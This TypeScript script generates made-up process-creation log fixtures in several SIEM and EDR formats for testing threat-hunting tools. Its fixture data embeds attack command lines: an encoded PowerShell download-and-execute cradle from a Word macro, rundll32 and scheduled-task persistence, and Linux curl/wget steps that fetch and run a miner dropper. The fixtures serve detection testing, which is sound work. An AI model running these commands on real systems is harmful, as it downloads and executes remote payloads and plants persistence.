/**
 * Writes the process-creation samples of test/fixtures/schemas/process/: one
 * Windows story and one Linux story (our own, made-up but realistic values),
 * each rendered in the layouts hunters export:
 *
 *   win4688-securityevent.csv   Sentinel SecurityEvent, 4688 (and a few 4689)
 *   win4688-windowsevent.ndjson Sentinel WindowsEvent, EventData flattened
 *   sysmon1.csv                 Sysmon event 1 (and a few 3 and 5)
 *   mde.csv                     MDE DeviceProcessEvents with grandparents, 100 ns times
 *   ocsf.ndjson                 OCSF Process Activity, dotted names, epoch-ms times
 *   auditd.csv                  Linux auditd as MSTICPy's parser lays it out
 *   ecs.ndjson                  Elastic ECS (Elastic Defend on Linux), dotted names
 *
 * Usage: node --import tsx scripts/make-process-schema-fixtures.ts
 * Deterministic: the same files on every run.
 */
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";

const OUT = join(__dirname, "..", "test", "fixtures", "schemas", "process");

/** One process of a story. Times are ms after the story's start (negative: before the export) plus 100 ns ticks. */
interface Proc {
  id: string;
  image: string;
  pid: number;
  parent?: string;
  at: number;
  ticks: number;
  cmd: string;
  user: string;
  /** In the export (false: started before it, seen only as a parent or grandparent). */
  event: boolean;
  /** Exit time (ms), for the process-exit rows of some layouts. */
  exit?: number;
}

// ----------------------------------------------------------------- Windows story

const WIN_START = Date.UTC(2026, 10, 2, 9, 14, 0);
const SYS32 = "C:\\Windows\\System32\\";
const ENC = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA4ADUALgAxADQAMQAuADIANwAuADkAOQAvAGEAJwApAA==";
let tick = 3;
const nextTicks = (): number => (tick = (tick * 7 + 3) % 10);

function win(id: string, image: string, pid: number, parent: string | undefined, at: number, cmd: string, user = "jlee", event = true, exit?: number): Proc {
  return { id, image, pid, parent, at, ticks: nextTicks(), cmd, user, event, exit };
}

/** An Outlook attachment leading to PowerShell, discovery, a DLL and persistence; service noise; PID 6644 reused. */
const WINDOWS: Proc[] = [
  win("wininit", `${SYS32}wininit.exe`, 612, undefined, -9_000_000, "wininit.exe", "SYSTEM", false),
  win("services", `${SYS32}services.exe`, 740, "wininit", -8_999_000, `${SYS32}services.exe`, "SYSTEM", false),
  win("svcNet", `${SYS32}svchost.exe`, 1084, "services", -8_990_000, `${SYS32}svchost.exe -k netsvcs -p`, "SYSTEM", false),
  win("svcDcom", `${SYS32}svchost.exe`, 896, "services", -8_995_000, `${SYS32}svchost.exe -k DcomLaunch -p`, "SYSTEM", false),
  win("explorer", "C:\\Windows\\explorer.exe", 4420, undefined, -3_600_000, "C:\\Windows\\Explorer.EXE", "jlee", false),
  win("outlook", "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", 5012, "explorer", 1_250, '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"'),
  win("word", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", 6120, "outlook", 95_310, '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\jlee\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7Q2K1ZP4\\Q3_invoice.docm" /o ""'),
  win("cmd1", `${SYS32}cmd.exe`, 6644, "word", 131_042, `"${SYS32}cmd.exe" /c powershell -nop -w hidden -enc ${ENC}`, "jlee", true, 140_000),
  win("conhost1", `${SYS32}conhost.exe`, 6652, "cmd1", 131_061, `\\??\\${SYS32}conhost.exe 0xffffffff -ForceV1`),
  win("ps", `${SYS32}WindowsPowerShell\\v1.0\\powershell.exe`, 6712, "cmd1", 131_377, `powershell  -nop -w hidden -enc ${ENC}`),
  win("whoami", `${SYS32}whoami.exe`, 7020, "ps", 138_905, '"C:\\Windows\\system32\\whoami.exe" /all', "jlee", true, 139_100),
  win("net", `${SYS32}net.exe`, 7044, "ps", 141_220, '"C:\\Windows\\system32\\net.exe" group "Domain Admins" /domain'),
  win("net1", `${SYS32}net1.exe`, 7052, "net", 141_236, 'C:\\Windows\\system32\\net1 group "Domain Admins" /domain'),
  win("nltest", `${SYS32}nltest.exe`, 7110, "ps", 149_870, '"C:\\Windows\\system32\\nltest.exe" /dclist:fabrikam.local'),
  win("rundll", `${SYS32}rundll32.exe`, 7236, "ps", 171_408, '"C:\\Windows\\system32\\rundll32.exe" C:\\Users\\jlee\\AppData\\Local\\Temp\\upd.dll,DllRegisterServer'),
  win("cmd2", `${SYS32}cmd.exe`, 7300, "rundll", 182_115, `"${SYS32}cmd.exe" /c schtasks /create /tn "OneDrive Update" /tr "rundll32 C:\\Users\\jlee\\AppData\\Local\\Temp\\upd.dll,DllRegisterServer" /sc onlogon /f`),
  win("conhost2", `${SYS32}conhost.exe`, 7308, "cmd2", 182_131, `\\??\\${SYS32}conhost.exe 0xffffffff -ForceV1`),
  win("schtasks", `${SYS32}schtasks.exe`, 7312, "cmd2", 182_190, 'schtasks  /create /tn "OneDrive Update" /tr "rundll32 C:\\Users\\jlee\\AppData\\Local\\Temp\\upd.dll,DllRegisterServer" /sc onlogon /f'),
  win("taskhost", `${SYS32}taskhostw.exe`, 7388, "svcNet", 205_004, "taskhostw.exe Install $(Arg0)", "jlee"),
  win("sc", `${SYS32}sc.exe`, 7520, "svcNet", 233_517, '"C:\\Windows\\system32\\sc.exe" query WinDefend', "SYSTEM"),
  win("conhost3", `${SYS32}conhost.exe`, 7528, "sc", 233_530, `\\??\\${SYS32}conhost.exe 0xffffffff -ForceV1`, "SYSTEM"),
  win("svcUni", `${SYS32}svchost.exe`, 7600, "services", 250_880, `${SYS32}svchost.exe -k UnistackSvcGroup -s CDPUserSvc`, "SYSTEM"),
  win("msiexec", `${SYS32}msiexec.exe`, 7644, "services", 262_301, `${SYS32}msiexec.exe /V`, "SYSTEM"),
  win("wmi", `${SYS32}wbem\\WmiPrvSE.exe`, 7700, "svcDcom", 270_455, `${SYS32}wbem\\wmiprvse.exe -Embedding`, "NETWORK SERVICE"),
  win("cmd3", `${SYS32}cmd.exe`, 6644, "explorer", 301_777, `"${SYS32}cmd.exe" `),
  win("conhost4", `${SYS32}conhost.exe`, 7760, "cmd3", 301_792, `\\??\\${SYS32}conhost.exe 0xffffffff -ForceV1`),
  win("ipconfig", `${SYS32}ipconfig.exe`, 7804, "cmd3", 318_250, "ipconfig  /all"),
  win("ping", `${SYS32}PING.EXE`, 7832, "cmd3", 327_604, "ping  -n 2 dc01.fabrikam.local"),
];

// ----------------------------------------------------------------- Linux story

const LX_START = Date.UTC(2026, 10, 3, 22, 41, 0);

function lx(id: string, image: string, pid: number, parent: string | undefined, at: number, cmd: string, user = "deploy", event = true, exit?: number): Proc {
  return { id, image, pid, parent, at, ticks: nextTicks(), cmd, user, event, exit };
}

/** An SSH login that fetches and runs a miner dropper; cron noise; PID 20533 reused. */
const LINUX: Proc[] = [
  lx("systemd", "/usr/lib/systemd/systemd", 1, undefined, -86_400_000, "/sbin/init", "root", false),
  lx("sshd", "/usr/sbin/sshd", 1123, "systemd", -86_390_000, "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups", "root", false),
  lx("cron", "/usr/sbin/cron", 987, "systemd", -86_395_000, "/usr/sbin/cron -f -P", "root", false),
  lx("sshdSess", "/usr/sbin/sshd", 20411, "sshd", 2_114, "sshd: deploy [priv]", "root"),
  lx("sshdUser", "/usr/sbin/sshd", 20430, "sshdSess", 2_480, "sshd: deploy@pts/0"),
  lx("bash", "/usr/bin/bash", 20433, "sshdUser", 2_502, "-bash"),
  lx("id", "/usr/bin/id", 20470, "bash", 9_310, "id"),
  lx("uname", "/usr/bin/uname", 20471, "bash", 11_082, "uname -a"),
  lx("curl", "/usr/bin/curl", 20510, "bash", 24_755, "curl -fsSL http://45.77.65.211/x.sh -o /tmp/.x.sh"),
  lx("sh", "/usr/bin/dash", 20533, "bash", 31_020, "sh /tmp/.x.sh", "deploy", true, 52_000),
  lx("mkdir", "/usr/bin/mkdir", 20534, "sh", 31_044, "mkdir -p /tmp/.X11-unix/.x"),
  lx("wget", "/usr/bin/wget", 20536, "sh", 31_310, "wget -q http://45.77.65.211/kdevtmpfsi -O /tmp/.X11-unix/.x/kdevtmpfsi"),
  lx("chmod", "/usr/bin/chmod", 20541, "sh", 36_771, "chmod +x /tmp/.X11-unix/.x/kdevtmpfsi"),
  lx("miner", "/tmp/.X11-unix/.x/kdevtmpfsi", 20544, "sh", 36_902, "/tmp/.X11-unix/.x/kdevtmpfsi"),
  lx("crontab", "/usr/bin/crontab", 20550, "sh", 37_118, "crontab /tmp/.x.cron"),
  lx("rm", "/usr/bin/rm", 20552, "sh", 37_240, "rm -f /tmp/.x.sh /tmp/.x.cron"),
  lx("cronSh", "/usr/bin/dash", 20601, "cron", 60_004, "/bin/sh -c cd / && run-parts --report /etc/cron.hourly", "root"),
  lx("runParts", "/usr/bin/run-parts", 20602, "cronSh", 60_011, "run-parts --report /etc/cron.hourly", "root"),
  lx("logrotate", "/usr/sbin/logrotate", 20605, "runParts", 60_120, "/usr/sbin/logrotate /etc/logrotate.conf", "root"),
  lx("sudo", "/usr/bin/sudo", 20533, "bash", 71_553, "sudo systemctl status nginx"),
  lx("systemctl", "/usr/bin/systemctl", 20640, "sudo", 71_790, "systemctl status nginx", "root"),
  lx("pager", "/usr/bin/less", 20641, "systemctl", 71_805, "less", "root"),
];

// ----------------------------------------------------------------- helpers

const byId = (story: Proc[]): Map<string, Proc> => new Map(story.map((p) => [p.id, p]));
const parentOf = (story: Proc[], p: Proc): Proc | undefined => (p.parent ? byId(story).get(p.parent) : undefined);
const baseName = (image: string): string => image.split(/[\\/]/).pop() as string;

/** ISO time with 7 fractional digits (MDE, Windows), 6 (ECS) or 3 (Sysmon). */
function iso(start: number, p: Proc, digits: 3 | 6 | 7, sep = "T", zone = "Z"): string {
  const ms = start + p.at;
  const base = new Date(Math.floor(ms / 1000) * 1000).toISOString().slice(0, 19).replace("T", sep);
  const frac = `${String(ms % 1000).padStart(3, "0")}${String(Math.abs(p.at) % 7).padStart(3, "0")}${p.ticks}`.slice(0, digits);
  return `${base}.${frac}${zone}`;
}
const hex = (n: number): string => `0x${n.toString(16)}`;

function csv(rows: Record<string, unknown>[]): string {
  const columns = Object.keys(rows[0]);
  const cell = (v: unknown): string => {
    if (v === null || v === undefined) return "";
    const s = String(v);
    return /[",\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
  };
  return [columns.join(","), ...rows.map((r) => columns.map((c) => cell(r[c])).join(","))].join("\n") + "\n";
}
const ndjson = (rows: Record<string, unknown>[]): string => rows.map((r) => JSON.stringify(r)).join("\n") + "\n";

/** Events in time order, with the exits (`exit` set) interleaved when asked. */
function timeline(story: Proc[], exits: boolean): { p: Proc; exit: boolean }[] {
  const out = story.filter((p) => p.event).map((p) => ({ p, exit: false, t: p.at }));
  if (exits) for (const p of story) if (p.exit !== undefined) out.push({ p, exit: true, t: p.exit });
  return out.sort((a, b) => a.t - b.t).map(({ p, exit }) => ({ p, exit }));
}

const SIDS: Record<string, string> = { jlee: "S-1-5-21-3623811015-3361044348-30300820-1107", SYSTEM: "S-1-5-18", "NETWORK SERVICE": "S-1-5-20" };
const LOGONS: Record<string, string> = { jlee: "0x5a3f21", SYSTEM: "0x3e7", "NETWORK SERVICE": "0x3e4" };
const domainOf = (user: string): string => (user === "jlee" ? "FABRIKAM" : "NT AUTHORITY");

// ----------------------------------------------------------------- Windows layouts

function win4688(computer: string, exits: boolean): Record<string, unknown>[] {
  return timeline(WINDOWS, exits).map(({ p, exit }) => {
    const parent = parentOf(WINDOWS, p) as Proc;
    const time = iso(WIN_START, exit ? { ...p, at: p.exit as number } : p, 7);
    if (exit) {
      return { TimeGenerated: time, Computer: computer, EventID: 4689, SubjectUserSid: SIDS[p.user], SubjectUserName: p.user, SubjectDomainName: domainOf(p.user), SubjectLogonId: LOGONS[p.user], NewProcessId: "", NewProcessName: "", ProcessId: hex(p.pid), ProcessName: p.image, CommandLine: "", ParentProcessName: "", TargetLogonId: "", TokenElevationType: "", MandatoryLabel: "" };
    }
    return {
      TimeGenerated: time,
      Computer: computer,
      EventID: 4688,
      SubjectUserSid: SIDS[parent.user],
      SubjectUserName: parent.user,
      SubjectDomainName: domainOf(parent.user),
      SubjectLogonId: LOGONS[parent.user],
      NewProcessId: hex(p.pid),
      NewProcessName: p.image,
      ProcessId: hex(parent.pid),
      ProcessName: "",
      CommandLine: p.cmd,
      ParentProcessName: parent.image,
      TargetLogonId: p.user === parent.user ? "0x0" : LOGONS[p.user],
      TokenElevationType: p.user === "jlee" ? "%%1938" : "%%1936",
      MandatoryLabel: p.user === "jlee" ? "S-1-16-8192" : "S-1-16-16384",
    };
  });
}

function securityEvent(): Record<string, unknown>[] {
  return win4688("FIN-WKS-0231.fabrikam.local", true).map((r) => ({
    ...r,
    Activity: r.EventID === 4688 ? "4688 - A new process has been created." : "4689 - A process has exited.",
    EventSourceName: "Microsoft-Windows-Security-Auditing",
    Account: `${r.SubjectDomainName}\\${r.SubjectUserName}`,
    AccountType: r.SubjectUserName === "jlee" ? "User" : "Machine",
  }));
}

function windowsEvent(): Record<string, unknown>[] {
  return win4688("HR-LAP-0042.fabrikam.local", false).map((r, k) => {
    const { TimeGenerated, Computer, EventID, ProcessName: _unused, ...data } = r;
    return {
      TimeGenerated,
      Computer,
      EventID,
      Channel: "Security",
      Provider: "Microsoft-Windows-Security-Auditing",
      Task: 13312,
      EventLevel: 0,
      EventLevelName: "Information",
      EventOriginId: `6f1d${String(k).padStart(4, "0")}-3b7c-4e2a-9d0e-5a8c2f41b7e3`,
      ...data,
    };
  });
}

const GUID = (p: Proc): string => `{4f2c9a1e-${String(p.pid).padStart(4, "0").slice(-4)}-${(6520 + Math.abs(p.at) % 97).toString(16)}-0b00-00000000${String(Math.abs(p.at) % 10000).padStart(4, "0")}}`;

function sysmon(): Record<string, unknown>[] {
  const computer = "ENG-WKS-0117.fabrikam.local";
  const rows: Record<string, unknown>[] = [];
  for (const { p } of timeline(WINDOWS, false)) {
    const parent = parentOf(WINDOWS, p) as Proc;
    rows.push({
      UtcTime: iso(WIN_START, p, 3, " ", ""),
      Computer: computer,
      EventID: 1,
      RuleName: "-",
      ProcessGuid: GUID(p),
      ProcessId: p.pid,
      Image: p.image,
      OriginalFileName: baseName(p.image).toUpperCase(),
      CommandLine: p.cmd,
      CurrentDirectory: p.user === "jlee" ? "C:\\Users\\jlee\\" : "C:\\Windows\\system32\\",
      User: `${domainOf(p.user)}\\${p.user}`,
      LogonId: LOGONS[p.user],
      IntegrityLevel: p.user === "jlee" ? "Medium" : "System",
      Hashes: `SHA256=${(p.pid * 2654435761).toString(16).padStart(16, "0").repeat(4).slice(0, 64).toUpperCase()}`,
      ParentProcessGuid: GUID(parent),
      ParentProcessId: parent.pid,
      ParentImage: parent.image,
      ParentCommandLine: parent.cmd,
      ParentUser: `${domainOf(parent.user)}\\${parent.user}`,
    });
    if (p.id === "ps") {
      // A network connection and a process end from the same export: not process creations.
      rows.push({ UtcTime: iso(WIN_START, { ...p, at: p.at + 2_180 }, 3, " ", ""), Computer: computer, EventID: 3, RuleName: "-", ProcessGuid: GUID(p), ProcessId: p.pid, Image: p.image, User: "FABRIKAM\\jlee" });
    }
    if (p.id === "whoami") {
      rows.push({ UtcTime: iso(WIN_START, { ...p, at: p.at + 195 }, 3, " ", ""), Computer: computer, EventID: 5, RuleName: "-", ProcessGuid: GUID(p), ProcessId: p.pid, Image: p.image, User: "FABRIKAM\\jlee" });
    }
  }
  const columns = Object.keys(rows[0]);
  return rows.map((r) => Object.fromEntries(columns.map((c) => [c, r[c] ?? ""])));
}

function mde(): Record<string, unknown>[] {
  const device = "fin-wks-0388.fabrikam.local";
  return timeline(WINDOWS, false).map(({ p }, k) => {
    const parent = parentOf(WINDOWS, p) as Proc;
    const grand = parentOf(WINDOWS, parent);
    const logon = (user: string): number => parseInt(LOGONS[user], 16);
    return {
      Timestamp: iso(WIN_START, { ...p, ticks: Math.min(9, p.ticks + 1) }, 7),
      DeviceId: "8a1c0f4e92b7d3a5c6e1f0b2d4a6c8e0f1a3b5c7",
      DeviceName: device,
      ActionType: "ProcessCreated",
      FileName: baseName(p.image),
      FolderPath: p.image,
      SHA256: (p.pid * 40503).toString(16).padStart(8, "0").repeat(8),
      ProcessId: p.pid,
      ProcessCommandLine: p.cmd,
      ProcessIntegrityLevel: p.user === "jlee" ? "Medium" : "System",
      ProcessCreationTime: iso(WIN_START, p, 7),
      AccountDomain: domainOf(p.user).toLowerCase(),
      AccountName: p.user.toLowerCase(),
      AccountSid: SIDS[p.user],
      LogonId: logon(p.user),
      InitiatingProcessAccountDomain: domainOf(parent.user).toLowerCase(),
      InitiatingProcessAccountName: parent.user.toLowerCase(),
      InitiatingProcessAccountSid: SIDS[parent.user],
      InitiatingProcessLogonId: logon(parent.user),
      InitiatingProcessIntegrityLevel: parent.user === "jlee" ? "Medium" : "System",
      InitiatingProcessFileName: baseName(parent.image),
      InitiatingProcessFolderPath: parent.image,
      InitiatingProcessId: parent.pid,
      InitiatingProcessCommandLine: parent.cmd,
      InitiatingProcessCreationTime: iso(WIN_START, parent, 7),
      InitiatingProcessParentId: grand ? grand.pid : "",
      InitiatingProcessParentFileName: grand ? baseName(grand.image) : "",
      InitiatingProcessParentCreationTime: grand ? iso(WIN_START, grand, 7) : "",
      ReportId: 11_800 + k * 3,
    };
  });
}

function ocsf(): Record<string, unknown>[] {
  const device = "fin-srv-0009.fabrikam.local";
  const created = (p: Proc): number => WIN_START + p.at;
  const processObject = (p: Proc, prefix: string): Record<string, unknown> => ({
    [`${prefix}.pid`]: p.pid,
    [`${prefix}.uid`]: GUID(p).slice(1, -1),
    [`${prefix}.name`]: baseName(p.image),
    [`${prefix}.file.path`]: p.image,
    [`${prefix}.cmd_line`]: p.cmd,
    [`${prefix}.created_time`]: created(p),
  });
  return timeline(WINDOWS, true).map(({ p, exit }) => {
    const parent = parentOf(WINDOWS, p) as Proc;
    const grand = parentOf(WINDOWS, parent);
    return {
      time: exit ? WIN_START + (p.exit as number) : created(p),
      class_uid: 1007,
      category_uid: 1,
      activity_id: exit ? 2 : 1,
      activity_name: exit ? "Terminate" : "Launch",
      type_uid: exit ? 100702 : 100701,
      severity_id: 1,
      "metadata.version": "1.1.0",
      "metadata.product.name": "Fabrikam Sensor",
      "metadata.product.vendor_name": "Fabrikam",
      "device.hostname": device,
      "device.os.name": "Windows",
      ...processObject(p, "process"),
      "process.session.uid": LOGONS[p.user],
      "process.user.name": p.user,
      ...processObject(parent, "process.parent_process"),
      "process.parent_process.user.name": parent.user,
      "process.parent_process.parent_process.pid": grand ? grand.pid : null,
      "process.parent_process.parent_process.file.path": grand ? grand.image : null,
      "process.parent_process.parent_process.created_time": grand ? created(grand) : null,
      "actor.user.name": parent.user,
      "actor.user.uid": SIDS[parent.user],
      "actor.user.domain": domainOf(parent.user),
      "actor.session.uid": LOGONS[parent.user],
    };
  });
}

// ----------------------------------------------------------------- Linux layouts

const UIDS: Record<string, number> = { root: 0, deploy: 1001 };

function auditd(): Record<string, unknown>[] {
  const sessions: Record<string, number> = { root: 4294967295, deploy: 57 };
  return timeline(LINUX, false).map(({ p }) => {
    const parent = parentOf(LINUX, p) as Proc;
    return {
      TimeGenerated: iso(LX_START, p, 3, " ", ""),
      Computer: "web-prod-03",
      EventType: "SYSCALL_EXECVE",
      pid: p.pid,
      ppid: parent.pid,
      exe: p.image,
      comm: baseName(p.image).slice(0, 15),
      cmdline: p.cmd,
      acct: p.user,
      uid: UIDS[p.user],
      auid: p.id.startsWith("cron") || p.id === "runParts" || p.id === "logrotate" ? 4294967295 : 1001,
      ses: p.id.startsWith("cron") || p.id === "runParts" || p.id === "logrotate" ? -1 : sessions.deploy,
      tty: p.id.startsWith("cron") || p.id === "runParts" || p.id === "logrotate" ? "(none)" : "pts0",
      cwd: p.user === "root" ? "/" : "/home/deploy",
    };
  });
}

function ecs(): Record<string, unknown>[] {
  const entity = (p: Proc): string => Buffer.from(`web-prod-07|${p.pid}|${LX_START + p.at}`).toString("base64");
  return timeline(LINUX, true).map(({ p, exit }) => {
    const parent = parentOf(LINUX, p) as Proc;
    const at = exit ? { ...p, at: p.exit as number } : p;
    return {
      "@timestamp": iso(LX_START, at, 6),
      "ecs.version": "8.11.0",
      "agent.type": "endpoint",
      "event.kind": "event",
      "event.category": ["process"],
      "event.type": exit ? ["end"] : ["start"],
      "event.action": exit ? "end" : "exec",
      "host.name": "web-prod-07",
      "host.os.type": "linux",
      "process.pid": p.pid,
      "process.entity_id": entity(p),
      "process.name": baseName(p.image),
      "process.executable": p.image,
      "process.command_line": p.cmd,
      "process.args": p.cmd.split(" ").filter(Boolean),
      "process.start": iso(LX_START, p, 6),
      "process.parent.pid": parent.pid,
      "process.parent.entity_id": entity(parent),
      "process.parent.name": baseName(parent.image),
      "process.parent.executable": parent.image,
      "process.parent.command_line": parent.cmd,
      "process.parent.args": parent.cmd.split(" ").filter(Boolean),
      "process.parent.start": iso(LX_START, parent, 6),
      "user.name": p.user,
      "user.id": String(UIDS[p.user]),
    };
  });
}

mkdirSync(OUT, { recursive: true });
const files: [string, string][] = [
  ["win4688-securityevent.csv", csv(securityEvent())],
  ["win4688-windowsevent.ndjson", ndjson(windowsEvent())],
  ["sysmon1.csv", csv(sysmon())],
  ["mde.csv", csv(mde())],
  ["ocsf.ndjson", ndjson(ocsf())],
  ["auditd.csv", csv(auditd())],
  ["ecs.ndjson", ndjson(ecs())],
];
for (const [name, text] of files) {
  writeFileSync(join(OUT, name), text);
  console.log(`${name}: ${text.trimEnd().split("\n").length - (name.endsWith(".csv") ? 1 : 0)} rows`);
}
